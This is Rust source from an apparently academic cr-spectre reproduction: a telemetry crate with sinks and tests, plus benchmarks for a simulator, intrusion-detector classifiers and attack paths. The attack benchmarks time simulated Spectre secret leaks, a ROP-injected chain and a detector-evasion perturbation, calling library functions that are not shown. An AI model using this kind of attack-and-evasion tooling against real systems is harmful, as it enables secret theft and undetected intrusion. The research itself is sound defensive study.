    /// Signed integer.
    I64(i64),
    /// Float.
    F64(f64),
    /// Boolean.
    Bool(bool),
    /// String.
    Str(String),
}

impl From<u64> for FieldValue {
    fn from(v: u64) -> FieldValue {
        FieldValue::U64(v)
    }
}

impl From<usize> for FieldValue {
    fn from(v: usize) -> FieldValue {
        FieldValue::U64(v as u64)
    }
}

impl From<u32> for FieldValue {
    fn from(v: u32) -> FieldValue {
        FieldValue::U64(u64::from(v))
    }
}

impl From<i64> for FieldValue {
    fn from(v: i64) -> FieldValue {
        FieldValue::I64(v)
    }
}

impl From<f64> for FieldValue {
    fn from(v: f64) -> FieldValue {
        FieldValue::F64(v)
    }
}

impl From<bool> for FieldValue {
    fn from(v: bool) -> FieldValue {
        FieldValue::Bool(v)
    }
}

impl From<&str> for FieldValue {
    fn from(v: &str) -> FieldValue {
        FieldValue::Str(v.to_string())
    }
}

impl From<String> for FieldValue {
    fn from(v: String) -> FieldValue {
        FieldValue::Str(v)
    }
}

// ---------------------------------------------------------------------
// Records
// ---------------------------------------------------------------------

/// A closed span, as handed to sinks.
#[derive(Debug, Clone)]
pub struct SpanRecord {
    /// Span name (dotted hierarchy by convention: `fig5.attempt`).
    pub name: &'static str,
    /// Unique id within this recorder session.
    pub id: u64,
    /// Id of the enclosing span on the same thread, if any.
    pub parent: Option<u64>,
    /// Small dense id of the recording thread.
    pub thread: u64,
    /// Microseconds from recorder installation to span open.
    pub start_us: u64,
    /// Span duration in microseconds.
    pub dur_us: u64,
    /// Key/value annotations attached while the span was open.
    pub fields: Vec<(&'static str, FieldValue)>,
}

// ---------------------------------------------------------------------
// Global recorder
// ---------------------------------------------------------------------

struct Recorder {
    sinks: Vec<Box<dyn Sink>>,
    epoch: Instant,
    next_span_id: AtomicU64,
    summary: RwLock<Summary>,
}

impl Recorder {
    fn record_span(&self, record: SpanRecord) {
        if let Ok(mut summary) = self.summary.write() {
            summary.record_span(record.name, record.dur_us);
        }
        for sink in &self.sinks {
            sink.record_span(&record);
        }
    }
}

static ENABLED: AtomicBool = AtomicBool::new(false);
static RECORDER: RwLock<Option<Arc<Recorder>>> = RwLock::new(None);
static NEXT_THREAD_TAG: AtomicU64 = AtomicU64::new(0);

thread_local! {
    static SPAN_STACK: RefCell<Vec<u64>> = const { RefCell::new(Vec::new()) };
    static THREAD_TAG: u64 = NEXT_THREAD_TAG.fetch_add(1, Ordering::Relaxed);
}

/// Whether a recorder is currently installed.
///
/// One relaxed atomic load — cheap enough to gate per-trial
/// instrumentation in hot paths.
#[inline]
pub fn enabled() -> bool {
    ENABLED.load(Ordering::Relaxed)
}

/// Installs a recorder that fans out to `sinks`. Returns `false` (and
/// drops the sinks) if one is already installed; telemetry is a process
/// singleton.
pub fn install(sinks: Vec<Box<dyn Sink>>) -> bool {
    let mut slot = RECORDER.write().expect("telemetry registry poisoned");
    if slot.is_some() {
        return false;
    }
    *slot = Some(Arc::new(Recorder {
        sinks,
        epoch: Instant::now(),
        next_span_id: AtomicU64::new(1),
        summary: RwLock::new(Summary::default()),
    }));
    ENABLED.store(true, Ordering::Release);
    true
}

/// Uninstalls the recorder: flushes every sink with the aggregated
/// [`Summary`] and returns it. `None` if nothing was installed.
pub fn shutdown() -> Option<Summary> {
    let recorder = {
        let mut slot = RECORDER.write().expect("telemetry registry poisoned");
        ENABLED.store(false, Ordering::Release);
        slot.take()?
    };
    let summary = recorder.summary.read().expect("summary poisoned").clone();
    for sink in &recorder.sinks {
        sink.flush(&summary);
    }
    Some(summary)
}

fn with_recorder(f: impl FnOnce(&Arc<Recorder>)) {
    if let Ok(slot) = RECORDER.read() {
        if let Some(recorder) = slot.as_ref() {
            f(recorder);
        }
    }
}

/// Adds `delta` to the named monotonic counter. No-op when disabled.
#[inline]
pub fn counter(name: &'static str, delta: u64) {
    if !enabled() {
        return;
    }
    with_recorder(|r| {
        if let Ok(mut summary) = r.summary.write() {
            summary.record_counter(name, delta);
        }
    });
}

/// Records one observation into the named histogram. No-op when disabled.
#[inline]
pub fn histogram(name: &'static str, value: f64) {
    if !enabled() {
        return;
    }
    with_recorder(|r| {
        if let Ok(mut summary) = r.summary.write() {
            summary.record_histogram(name, value);
        }
    });
}

/// Opens a span. The returned guard records the span (duration, fields,
/// parent linkage) when dropped; when telemetry is disabled this is a
/// no-op that performs no allocation.
#[inline]
pub fn span(name: &'static str) -> Span {
    if !enabled() {
        return Span { inner: None };
    }
    let mut inner = None;
    with_recorder(|recorder| {
        let id = recorder.next_span_id.fetch_add(1, Ordering::Relaxed);
        let parent = SPAN_STACK.with(|stack| {
            let mut stack = stack.borrow_mut();
            let parent = stack.last().copied();
            stack.push(id);
            parent
        });
        inner = Some(SpanInner {
            recorder: Arc::clone(recorder),
            name,
            id,
            parent,
            start: Instant::now(),
            start_us: u64::try_from(recorder.epoch.elapsed().as_micros()).unwrap_or(u64::MAX),
            fields: Vec::new(),
        });
    });
    Span { inner }
}

struct SpanInner {
    recorder: Arc<Recorder>,
    name: &'static str,
    id: u64,
    parent: Option<u64>,
    start: Instant,
    start_us: u64,
    fields: Vec<(&'static str, FieldValue)>,
}

/// An open span; see [`span`].
pub struct Span {
    inner: Option<SpanInner>,
}

impl Span {
    /// Attaches a key/value annotation; recorded when the span closes.
    /// No-op on a disabled span.
    pub fn field(&mut self, key: &'static str, value: impl Into<FieldValue>) -> &mut Span {
        if let Some(inner) = &mut self.inner {
            inner.fields.push((key, value.into()));
        }
        self
    }

    /// Whether this guard is live (telemetry was enabled at open).
    pub fn is_recording(&self) -> bool {
        self.inner.is_some()
    }
}

impl std::fmt::Debug for Span {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match &self.inner {
            Some(inner) => write!(f, "Span({} #{})", inner.name, inner.id),
            None => write!(f, "Span(disabled)"),
        }
    }
}

impl Drop for Span {
    fn drop(&mut self) {
        let Some(inner) = self.inner.take() else {
            return;
        };
        SPAN_STACK.with(|stack| {
            let mut stack = stack.borrow_mut();
            // Usually a plain pop; the position scan tolerates guards
            // dropped out of scope order.
            if let Some(pos) = stack.iter().rposition(|&id| id == inner.id) {
                stack.remove(pos);
            }
        });
        let record = SpanRecord {
            name: inner.name,
            id: inner.id,
            parent: inner.parent,
            thread: THREAD_TAG.with(|t| *t),
            start_us: inner.start_us,
            dur_us: u64::try_from(inner.start.elapsed().as_micros()).unwrap_or(u64::MAX),
            fields: inner.fields,
        };
        inner.recorder.record_span(record);
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::sink::MemorySink;
    use std::sync::Mutex;

    // The recorder is a process singleton; serialize the tests that
    // install one.
    static INSTALL_LOCK: Mutex<()> = Mutex::new(());

    fn locked() -> std::sync::MutexGuard<'static, ()> {
        INSTALL_LOCK.lock().unwrap_or_else(|e| e.into_inner())
    }

    #[test]
    fn disabled_paths_are_no_ops() {
        let _guard = locked();
        assert!(!enabled());
        counter("nope", 1);
        histogram("nope", 1.0);
        let mut s = span("nope");
        s.field("k", 1u64);
        assert!(!s.is_recording());
        drop(s);
        assert!(shutdown().is_none());
    }

    #[test]
    fn spans_counters_histograms_round_trip() {
        let _guard = locked();
        let sink = MemorySink::shared();
        assert!(install(vec![Box::new(sink.clone())]));
        assert!(enabled());
        {
            let mut outer = span("outer");
            outer.field("k", "v");
            let inner = span("inner");
            assert!(inner.is_recording());
            drop(inner);
        }
        counter("c", 2);
        counter("c", 3);
        histogram("h", 1.0);
        histogram("h", 3.0);
        let summary = shutdown().expect("installed");
        assert!(!enabled());

        assert_eq!(summary.counters["c"], 5);
        let h = &summary.histograms["h"];
        assert_eq!(h.count, 2);
        assert!((h.sum - 4.0).abs() < 1e-12);
        assert_eq!(summary.spans["outer"].count, 1);
        assert_eq!(summary.spans["inner"].count, 1);

        let spans = sink.spans();
        assert_eq!(spans.len(), 2, "inner closes first, then outer");
        let inner = &spans[0];
        let outer = &spans[1];
        assert_eq!(inner.name, "inner");
        assert_eq!(inner.parent, Some(outer.id));
        assert_eq!(outer.parent, None);
        assert_eq!(outer.fields, vec![("k", FieldValue::Str("v".into()))]);
        assert!(sink.flushed());
    }

    #[test]
    fn double_install_is_rejected() {
        let _guard = locked();
        assert!(install(vec![]));
        assert!(!install(vec![]));
        assert!(shutdown().is_some());
    }

    #[test]
    fn spans_on_worker_threads_record_independently() {
        let _guard = locked();
        let sink = MemorySink::shared();
        assert!(install(vec![Box::new(sink.clone())]));
        std::thread::scope(|scope| {
            for _ in 0..4 {
                scope.spawn(|| {
                    let mut s = span("worker");
                    s.field("ok", true);
                });
            }
        });
        let summary = shutdown().expect("installed");
        assert_eq!(summary.spans["worker"].count, 4);
        // Top-level spans on fresh threads have no parent.
        assert!(sink.spans().iter().all(|s| s.parent.is_none()));
    }
}

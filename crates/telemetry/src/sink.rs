//! Telemetry sinks: where records go.
//!
//! * [`JsonlSink`] — machine-readable newline-delimited JSON: one line
//!   per closed span as it happens, then `counter` / `histogram` /
//!   `span_stats` lines plus a final `summary` line at flush.
//! * [`SummarySink`] — human-readable report printed at flush
//!   (campaign end); goes to stderr so result tables on stdout stay
//!   machine-parseable.
//! * [`MemorySink`] — in-process capture for tests.

use std::fs::File;
use std::io::{self, BufWriter, Write};
use std::path::Path;
use std::sync::{Arc, Mutex};

use crate::json::{escape_into, number_into};
use crate::summary::Summary;
use crate::{FieldValue, SpanRecord};

/// A destination for telemetry records. Implementations must serialize
/// internally: spans close concurrently on campaign worker threads.
pub trait Sink: Send + Sync {
    /// Called once per closed span, in close order per thread.
    fn record_span(&self, span: &SpanRecord);

    /// Called once at [`crate::shutdown`] with the aggregated totals.
    fn flush(&self, summary: &Summary);
}

// ---------------------------------------------------------------------
// JSONL
// ---------------------------------------------------------------------

/// Thread-safe JSONL trace writer.
///
/// Line schema (`type` discriminates):
///
/// ```text
/// {"type":"meta","version":1,"tool":"cr-spectre-telemetry"}
/// {"type":"span","name":"fig5.attempt","id":7,"parent":3,"thread":2,
///  "start_us":120,"dur_us":4520,"fields":{"attempt":1,"variant":"v1"}}
/// {"type":"counter","name":"sim.instructions","value":123456}
/// {"type":"histogram","name":"par_map.job_us","count":10,"sum":99.0,
///  "min":4.0,"max":21.0,"mean":9.9}
/// {"type":"span_stats","name":"hpc.profile","count":12,"total_us":..,
///  "min_us":..,"max_us":..}
/// {"type":"summary","spans":N,"counters":N,"histograms":N}
/// ```
pub struct JsonlSink {
    writer: Mutex<Box<dyn Write + Send>>,
}

impl std::fmt::Debug for JsonlSink {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str("JsonlSink")
    }
}

impl JsonlSink {
    /// Creates (truncating) the trace file at `path` and writes the
    /// `meta` header line.
    ///
    /// # Errors
    ///
    /// Returns the underlying I/O error if the file cannot be created
    /// or written.
    pub fn create(path: impl AsRef<Path>) -> io::Result<JsonlSink> {
        let file = File::create(path)?;
        JsonlSink::from_writer(Box::new(BufWriter::new(file)))
    }

    /// Wraps an arbitrary writer (tests use in-memory buffers).
    ///
    /// # Errors
    ///
    /// Returns the underlying I/O error if the `meta` header line cannot
    /// be written.
    pub fn from_writer(mut writer: Box<dyn Write + Send>) -> io::Result<JsonlSink> {
        writeln!(writer, r#"{{"type":"meta","version":1,"tool":"cr-spectre-telemetry"}}"#)?;
        Ok(JsonlSink { writer: Mutex::new(writer) })
    }

    fn write_line(&self, line: &str) {
        let mut writer = self.writer.lock().unwrap_or_else(|e| e.into_inner());
        // Telemetry must never take the process down: drop the line on
        // I/O error (e.g. disk full) and keep simulating.
        let _ = writeln!(writer, "{line}");
    }
}

fn field_value_into(value: &FieldValue, out: &mut String) {
    use std::fmt::Write;
    match value {
        FieldValue::U64(v) => {
            let _ = write!(out, "{v}");
        }
        FieldValue::I64(v) => {
            let _ = write!(out, "{v}");
        }
        FieldValue::F64(v) => number_into(*v, out),
        FieldValue::Bool(v) => {
            let _ = write!(out, "{v}");
        }
        FieldValue::Str(v) => escape_into(v, out),
    }
}

/// Renders one span record as a JSONL line (no trailing newline).
pub fn span_to_json(span: &SpanRecord) -> String {
    use std::fmt::Write;
    let mut line = String::with_capacity(128);
    line.push_str(r#"{"type":"span","name":"#);
    escape_into(span.name, &mut line);
    let _ = write!(line, r#","id":{}"#, span.id);
    if let Some(parent) = span.parent {
        let _ = write!(line, r#","parent":{parent}"#);
    }
    let _ = write!(
        line,
        r#","thread":{},"start_us":{},"dur_us":{}"#,
        span.thread, span.start_us, span.dur_us
    );
    if !span.fields.is_empty() {
        line.push_str(r#","fields":{"#);
        for (i, (key, value)) in span.fields.iter().enumerate() {
            if i > 0 {
                line.push(',');
            }
            escape_into(key, &mut line);
            line.push(':');
            field_value_into(value, &mut line);
        }
        line.push('}');
    }
    line.push('}');
    line
}

impl Sink for JsonlSink {
    fn record_span(&self, span: &SpanRecord) {
        self.write_line(&span_to_json(span));
    }

    fn flush(&self, summary: &Summary) {
        use std::fmt::Write;
        let mut block = String::with_capacity(1024);
        for (name, value) in &summary.counters {
            block.push_str(r#"{"type":"counter","name":"#);
            escape_into(name, &mut block);
            let _ = write!(block, r#","value":{value}}}"#);
            block.push('\n');
        }
        for (name, h) in &summary.histograms {
            block.push_str(r#"{"type":"histogram","name":"#);
            escape_into(name, &mut block);
            let _ = write!(block, r#","count":{},"sum":"#, h.count);
            number_into(h.sum, &mut block);
            block.push_str(r#","min":"#);
            number_into(h.min, &mut block);
            block.push_str(r#","max":"#);
            number_into(h.max, &mut block);
            block.push_str(r#","mean":"#);
            number_into(h.mean(), &mut block);
            block.push_str("}\n");
        }
        for (name, s) in &summary.spans {
            block.push_str(r#"{"type":"span_stats","name":"#);
            escape_into(name, &mut block);
            let _ = write!(
                block,
                r#","count":{},"total_us":{},"min_us":{},"max_us":{}}}"#,
                s.count, s.total_us, s.min_us, s.max_us
            );
            block.push('\n');
        }
        let _ = write!(
            block,
            r#"{{"type":"summary","spans":{},"counters":{},"histograms":{}}}"#,
            summary.spans.len(),
            summary.counters.len(),
            summary.histograms.len()
        );
        self.write_line(&block);
        let mut writer = self.writer.lock().unwrap_or_else(|e| e.into_inner());
        let _ = writer.flush();
    }
}

// ---------------------------------------------------------------------
// Human summary
// ---------------------------------------------------------------------

/// Prints [`Summary::render`] to stderr when the recorder shuts down.
#[derive(Debug, Default)]
pub struct SummarySink;

impl SummarySink {
    /// Creates the sink.
    pub fn new() -> SummarySink {
        SummarySink
    }
}

impl Sink for SummarySink {
    fn record_span(&self, _span: &SpanRecord) {}

    fn flush(&self, summary: &Summary) {
        eprint!("{}", summary.render());
    }
}

// ---------------------------------------------------------------------
// In-memory capture (tests)
// ---------------------------------------------------------------------

/// Captures spans and the flushed summary in memory; clone the
/// [`MemorySink::shared`] handle to keep reading after installation.
#[derive(Debug, Default, Clone)]
pub struct MemorySink {
    state: Arc<Mutex<MemoryState>>,
}

#[derive(Debug, Default)]
struct MemoryState {
    spans: Vec<SpanRecord>,
    flushed: Option<Summary>,
}

impl MemorySink {
    /// Creates a sink whose clones all view the same captured state.
    pub fn shared() -> MemorySink {
        MemorySink::default()
    }

    /// Spans captured so far, in close order.
    pub fn spans(&self) -> Vec<SpanRecord> {
        self.state.lock().unwrap_or_else(|e| e.into_inner()).spans.clone()
    }

    /// Whether [`Sink::flush`] ran.
    pub fn flushed(&self) -> bool {
        self.state.lock().unwrap_or_else(|e| e.into_inner()).flushed.is_some()
    }

    /// The summary delivered at flush, if any.
    pub fn summary(&self) -> Option<Summary> {
        self.state.lock().unwrap_or_else(|e| e.into_inner()).flushed.clone()
    }
}

impl Sink for MemorySink {
    fn record_span(&self, span: &SpanRecord) {
        self.state.lock().unwrap_or_else(|e| e.into_inner()).spans.push(span.clone());
    }

    fn flush(&self, summary: &Summary) {
        self.state.lock().unwrap_or_else(|e| e.into_inner()).flushed = Some(summary.clone());
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::json::{parse, Value};

    /// A `Write` that appends into a shared buffer, so the test can read
    /// back what the sink wrote.
    #[derive(Clone, Default)]
    struct SharedBuf(Arc<Mutex<Vec<u8>>>);

    impl Write for SharedBuf {
        fn write(&mut self, buf: &[u8]) -> io::Result<usize> {
            self.0.lock().unwrap().extend_from_slice(buf);
            Ok(buf.len())
        }
        fn flush(&mut self) -> io::Result<()> {
            Ok(())
        }
    }

    fn sample_span() -> SpanRecord {
        SpanRecord {
            name: "test.span",
            id: 2,
            parent: Some(1),
            thread: 0,
            start_us: 10,
            dur_us: 42,
            fields: vec![
                ("host", FieldValue::Str("crc\"32".into())),
                ("n", FieldValue::U64(7)),
                ("ok", FieldValue::Bool(true)),
                ("ipc", FieldValue::F64(1.25)),
            ],
        }
    }

    #[test]
    fn span_line_parses_back() {
        let line = span_to_json(&sample_span());
        let v = parse(&line).expect("valid JSON");
        assert_eq!(v.get("type").unwrap().as_str(), Some("span"));
        assert_eq!(v.get("name").unwrap().as_str(), Some("test.span"));
        assert_eq!(v.get("parent").unwrap().as_f64(), Some(1.0));
        assert_eq!(v.get("dur_us").unwrap().as_f64(), Some(42.0));
        let fields = v.get("fields").unwrap();
        assert_eq!(fields.get("host").unwrap().as_str(), Some("crc\"32"));
        assert_eq!(fields.get("n").unwrap().as_f64(), Some(7.0));
        assert_eq!(fields.get("ok"), Some(&Value::Bool(true)));
        assert_eq!(fields.get("ipc").unwrap().as_f64(), Some(1.25));
    }

    #[test]
    fn jsonl_sink_emits_parseable_lines_for_everything() {
        let buf = SharedBuf::default();
        let sink = JsonlSink::from_writer(Box::new(buf.clone())).expect("writer");
        sink.record_span(&sample_span());
        let mut summary = Summary::default();
        summary.record_counter("c", 3);
        summary.record_histogram("h", 2.0);
        summary.record_span("test.span", 42);
        sink.flush(&summary);

        let bytes = buf.0.lock().unwrap().clone();
        let text = String::from_utf8(bytes).expect("utf8");
        let lines: Vec<&str> = text.lines().collect();
        assert!(lines.len() >= 5, "meta + span + counter + histogram + span_stats + summary");
        let mut types = Vec::new();
        for line in &lines {
            let v = parse(line).unwrap_or_else(|e| panic!("line {line:?}: {e}"));
            types.push(v.get("type").unwrap().as_str().unwrap().to_string());
        }
        for expected in ["meta", "span", "counter", "histogram", "span_stats", "summary"] {
            assert!(types.iter().any(|t| t == expected), "missing {expected} in {types:?}");
        }
    }

    #[test]
    fn memory_sink_captures() {
        let sink = MemorySink::shared();
        let handle = sink.clone();
        sink.record_span(&sample_span());
        assert_eq!(handle.spans().len(), 1);
        assert!(!handle.flushed());
        sink.flush(&Summary::default());
        assert!(handle.flushed());
        assert!(handle.summary().expect("flushed").is_empty());
    }
}

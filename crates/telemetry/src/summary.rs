//! Aggregated telemetry state and the human-readable campaign report.
//!
//! The recorder folds every closed span, counter increment and histogram
//! observation into one [`Summary`]; sinks receive it at flush time. The
//! JSONL sink serializes it as `counter`/`histogram`/`span_stats` lines,
//! the summary sink renders [`Summary::render`] for humans.

use std::collections::BTreeMap;

/// Aggregate statistics over all closed spans sharing a name.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct SpanStats {
    /// How many spans closed under this name.
    pub count: u64,
    /// Total microseconds across all of them.
    pub total_us: u64,
    /// Shortest single span.
    pub min_us: u64,
    /// Longest single span.
    pub max_us: u64,
}

impl SpanStats {
    /// Mean duration in microseconds.
    pub fn mean_us(&self) -> f64 {
        if self.count == 0 {
            0.0
        } else {
            self.total_us as f64 / self.count as f64
        }
    }
}

/// Aggregate statistics of one histogram.
#[derive(Debug, Clone, Copy, PartialEq)]
pub struct HistogramStats {
    /// Number of observations.
    pub count: u64,
    /// Sum of observations.
    pub sum: f64,
    /// Smallest observation.
    pub min: f64,
    /// Largest observation.
    pub max: f64,
}

impl HistogramStats {
    /// Mean observation.
    pub fn mean(&self) -> f64 {
        if self.count == 0 {
            0.0
        } else {
            self.sum / self.count as f64
        }
    }
}

/// Everything the recorder aggregated over its lifetime.
///
/// `BTreeMap` keeps the report (and the JSONL flush block) in stable
/// alphabetical order, independent of recording interleaving.
#[derive(Debug, Clone, Default)]
pub struct Summary {
    /// Per-name span statistics.
    pub spans: BTreeMap<&'static str, SpanStats>,
    /// Monotonic counters.
    pub counters: BTreeMap<&'static str, u64>,
    /// Histograms.
    pub histograms: BTreeMap<&'static str, HistogramStats>,
}

impl Summary {
    /// Folds one closed span in.
    pub fn record_span(&mut self, name: &'static str, dur_us: u64) {
        let stats = self.spans.entry(name).or_insert(SpanStats {
            count: 0,
            total_us: 0,
            min_us: u64::MAX,
            max_us: 0,
        });
        stats.count += 1;
        stats.total_us += dur_us;
        stats.min_us = stats.min_us.min(dur_us);
        stats.max_us = stats.max_us.max(dur_us);
    }

    /// Adds `delta` to a counter.
    pub fn record_counter(&mut self, name: &'static str, delta: u64) {
        *self.counters.entry(name).or_insert(0) += delta;
    }

    /// Folds one histogram observation in.
    pub fn record_histogram(&mut self, name: &'static str, value: f64) {
        let stats = self.histograms.entry(name).or_insert(HistogramStats {
            count: 0,
            sum: 0.0,
            min: f64::INFINITY,
            max: f64::NEG_INFINITY,
        });
        stats.count += 1;
        stats.sum += value;
        stats.min = stats.min.min(value);
        stats.max = stats.max.max(value);
    }

    /// Whether nothing was recorded.
    pub fn is_empty(&self) -> bool {
        self.spans.is_empty() && self.counters.is_empty() && self.histograms.is_empty()
    }

    /// Renders the human-readable report the summary sink prints at
    /// campaign end.
    pub fn render(&self) -> String {
        use std::fmt::Write;
        let mut out = String::new();
        let _ = writeln!(out, "== telemetry summary ==");
        if self.is_empty() {
            let _ = writeln!(out, "  (nothing recorded)");
            return out;
        }
        if !self.spans.is_empty() {
            let _ = writeln!(
                out,
                "spans                             count   total_ms    mean_ms     max_ms"
            );
            for (name, s) in &self.spans {
                let _ = writeln!(
                    out,
                    "  {name:<30} {:>7} {:>10.1} {:>10.3} {:>10.3}",
                    s.count,
                    s.total_us as f64 / 1_000.0,
                    s.mean_us() / 1_000.0,
                    s.max_us as f64 / 1_000.0,
                );
            }
        }
        if !self.counters.is_empty() {
            let _ = writeln!(out, "counters");
            for (name, value) in &self.counters {
                let _ = writeln!(out, "  {name:<30} {value:>12}");
            }
        }
        if !self.histograms.is_empty() {
            let _ = writeln!(
                out,
                "histograms                        count       mean        min        max"
            );
            for (name, h) in &self.histograms {
                let _ = writeln!(
                    out,
                    "  {name:<30} {:>7} {:>10.3} {:>10.3} {:>10.3}",
                    h.count,
                    h.mean(),
                    h.min,
                    h.max,
                );
            }
        }
        out
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn aggregation_tracks_count_min_max() {
        let mut s = Summary::default();
        s.record_span("a", 10);
        s.record_span("a", 30);
        s.record_counter("c", 7);
        s.record_counter("c", 1);
        s.record_histogram("h", -1.0);
        s.record_histogram("h", 5.0);
        assert_eq!(s.spans["a"].count, 2);
        assert_eq!(s.spans["a"].min_us, 10);
        assert_eq!(s.spans["a"].max_us, 30);
        assert!((s.spans["a"].mean_us() - 20.0).abs() < 1e-12);
        assert_eq!(s.counters["c"], 8);
        assert_eq!(s.histograms["h"].min, -1.0);
        assert_eq!(s.histograms["h"].max, 5.0);
        assert!((s.histograms["h"].mean() - 2.0).abs() < 1e-12);
        assert!(!s.is_empty());
    }

    #[test]
    fn render_contains_every_section() {
        let mut s = Summary::default();
        s.record_span("phase.one", 1_500);
        s.record_counter("trials", 3);
        s.record_histogram("lat_us", 2.0);
        let report = s.render();
        assert!(report.contains("phase.one"));
        assert!(report.contains("trials"));
        assert!(report.contains("lat_us"));
        assert!(Summary::default().render().contains("nothing recorded"));
    }
}

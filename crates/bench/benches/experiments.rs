//! One Criterion benchmark per paper artifact: Figure 4, Figure 5,
//! Figure 6 and Table I, each at a reduced (smoke) scale so the bench
//! suite finishes in minutes. The printable full-scale harnesses are the
//! `fig4`/`fig5`/`fig6`/`table1` binaries.

use criterion::{criterion_group, criterion_main, Criterion};
use std::hint::black_box;

use cr_spectre_core::campaign::{fig4, fig5, fig6, table1, CampaignConfig};

fn smoke() -> CampaignConfig {
    CampaignConfig { samples_per_class: 100, attempts: 2, ..CampaignConfig::default() }
}

fn bench_fig4(c: &mut Criterion) {
    let mut group = c.benchmark_group("experiments");
    group.sample_size(10);
    group.bench_function("fig4_feature_sizes", |b| {
        let cfg = smoke();
        b.iter(|| black_box(fig4(&cfg)))
    });
    group.finish();
}

fn bench_fig5(c: &mut Criterion) {
    let mut group = c.benchmark_group("experiments");
    group.sample_size(10);
    group.bench_function("fig5_offline_hid", |b| {
        let cfg = smoke();
        b.iter(|| black_box(fig5(&cfg)))
    });
    group.finish();
}

fn bench_fig6(c: &mut Criterion) {
    let mut group = c.benchmark_group("experiments");
    group.sample_size(10);
    group.bench_function("fig6_online_hid", |b| {
        let cfg = smoke();
        b.iter(|| black_box(fig6(&cfg)))
    });
    group.finish();
}

fn bench_table1(c: &mut Criterion) {
    let mut group = c.benchmark_group("experiments");
    group.sample_size(10);
    group.bench_function("table1_ipc_overhead", |b| {
        let cfg = smoke();
        b.iter(|| black_box(table1(&cfg, 1)))
    });
    group.finish();
}

/// The headline of the parallel campaign engine: the same `fig5` smoke
/// run at 1 worker vs as many as the host offers (at least 4, so the
/// scaling path is exercised even on small machines). Results are
/// bit-identical at both settings — the engine's determinism contract —
/// so the ratio of the two means is pure wall-clock speedup.
fn bench_fig5_thread_scaling(c: &mut Criterion) {
    let mut group = c.benchmark_group("fig5_thread_scaling");
    group.sample_size(10);
    let parallel = cr_spectre_core::parallel::default_threads().max(4);
    for threads in [1, parallel] {
        group.bench_function(&format!("threads_{threads}"), |b| {
            let cfg = CampaignConfig { threads, ..smoke() };
            b.iter(|| black_box(fig5(&cfg)))
        });
    }
    group.finish();
}

criterion_group!(
    benches,
    bench_fig4,
    bench_fig5,
    bench_fig5_thread_scaling,
    bench_fig6,
    bench_table1
);
criterion_main!(benches);

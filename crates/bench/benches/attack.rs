//! Attack-path benchmarks: secret-leak throughput of both Spectre
//! variants, the full ROP-injected chain, and Algorithm-2 perturbation
//! cost.

use criterion::{criterion_group, criterion_main, Criterion};
use std::hint::black_box;

use cr_spectre_core::attack::{run_cr_spectre, run_standalone_spectre, AttackConfig};
use cr_spectre_core::perturb::PerturbParams;
use cr_spectre_core::spectre::SpectreVariant;
use cr_spectre_workloads::mibench::Mibench;

fn leak_config(variant: SpectreVariant) -> AttackConfig {
    let mut config = AttackConfig::new(Mibench::Bitcount50M).with_variant(variant);
    config.secret_len = 8; // per-byte cost is what we measure
    config
}

fn bench_standalone_leak(c: &mut Criterion) {
    let mut group = c.benchmark_group("attack/standalone_leak_8_bytes");
    group.sample_size(20);
    for variant in SpectreVariant::ALL {
        let config = leak_config(variant);
        group.bench_function(variant.name(), |b| {
            b.iter(|| {
                let outcome = run_standalone_spectre(black_box(&config));
                assert!(outcome.leak_accuracy() > 0.99);
                outcome
            })
        });
    }
    group.finish();
}

fn bench_cr_injection(c: &mut Criterion) {
    let mut group = c.benchmark_group("attack/cr_spectre_full_chain");
    group.sample_size(10);
    let mut config = leak_config(SpectreVariant::V1);
    group.bench_function("plain", |b| {
        b.iter(|| black_box(run_cr_spectre(&config).expect("launches")))
    });
    config = config.with_perturb(PerturbParams::paper_default());
    group.bench_function("with_algorithm2", |b| {
        b.iter(|| black_box(run_cr_spectre(&config).expect("launches")))
    });
    group.finish();
}

criterion_group!(benches, bench_standalone_leak, bench_cr_injection);
criterion_main!(benches);

//! Detector benchmarks: training and inference cost of each of the
//! paper's four classifier families.

use criterion::{criterion_group, criterion_main, Criterion};
use std::hint::black_box;

use cr_spectre_hid::detector::HidKind;

fn synthetic(n: usize, dim: usize) -> (Vec<Vec<f64>>, Vec<u8>) {
    // Deterministic separable data with mild overlap.
    let mut x = Vec::with_capacity(n);
    let mut y = Vec::with_capacity(n);
    let mut state = 0x1234_5678_u64;
    for i in 0..n {
        let label = (i % 2) as u8;
        let center = if label == 1 { 2.0 } else { -2.0 };
        let row = (0..dim)
            .map(|_| {
                state ^= state << 13;
                state ^= state >> 7;
                state ^= state << 17;
                center + ((state % 2000) as f64 / 1000.0 - 1.0)
            })
            .collect();
        x.push(row);
        y.push(label);
    }
    (x, y)
}

fn bench_training(c: &mut Criterion) {
    let (x, y) = synthetic(400, 4);
    let mut group = c.benchmark_group("hid/train_400x4");
    group.sample_size(10);
    for kind in HidKind::ALL {
        group.bench_function(kind.name(), |b| {
            b.iter(|| {
                let mut model = kind.build();
                model.fit(black_box(&x), black_box(&y));
                model
            })
        });
    }
    group.finish();
}

fn bench_inference(c: &mut Criterion) {
    let (x, y) = synthetic(400, 4);
    let mut group = c.benchmark_group("hid/classify_window");
    for kind in HidKind::ALL {
        let mut model = kind.build();
        model.fit(&x, &y);
        group.bench_function(kind.name(), |b| {
            let row = &x[7];
            b.iter(|| black_box(model.predict(black_box(row))))
        });
    }
    group.finish();
}

criterion_group!(benches, bench_training, bench_inference);
criterion_main!(benches);

//! Microarchitecture-substrate benchmarks: simulator throughput, cache
//! and predictor operations, instruction codec, gadget scanning.

use criterion::{criterion_group, criterion_main, Criterion};
use std::hint::black_box;

use cr_spectre_asm::builder::Asm;
use cr_spectre_asm::runtime::add_runtime;
use cr_spectre_rop::Scanner;
use cr_spectre_sim::branch::PatternHistoryTable;
use cr_spectre_sim::cache::{CacheHierarchy, HierarchyConfig};
use cr_spectre_sim::config::MachineConfig;
use cr_spectre_sim::cpu::Machine;
use cr_spectre_sim::isa::{AluOp, Instr, Reg};
use cr_spectre_workloads::host::standalone_image;
use cr_spectre_workloads::mibench::Mibench;

fn bench_simulator_throughput(c: &mut Criterion) {
    let image = standalone_image(Mibench::Crc32);
    c.bench_function("sim/run_crc32_workload", |b| {
        b.iter(|| {
            let mut m = Machine::new(MachineConfig::default());
            let li = m.load(&image).expect("loads");
            m.start(li.entry);
            black_box(m.run())
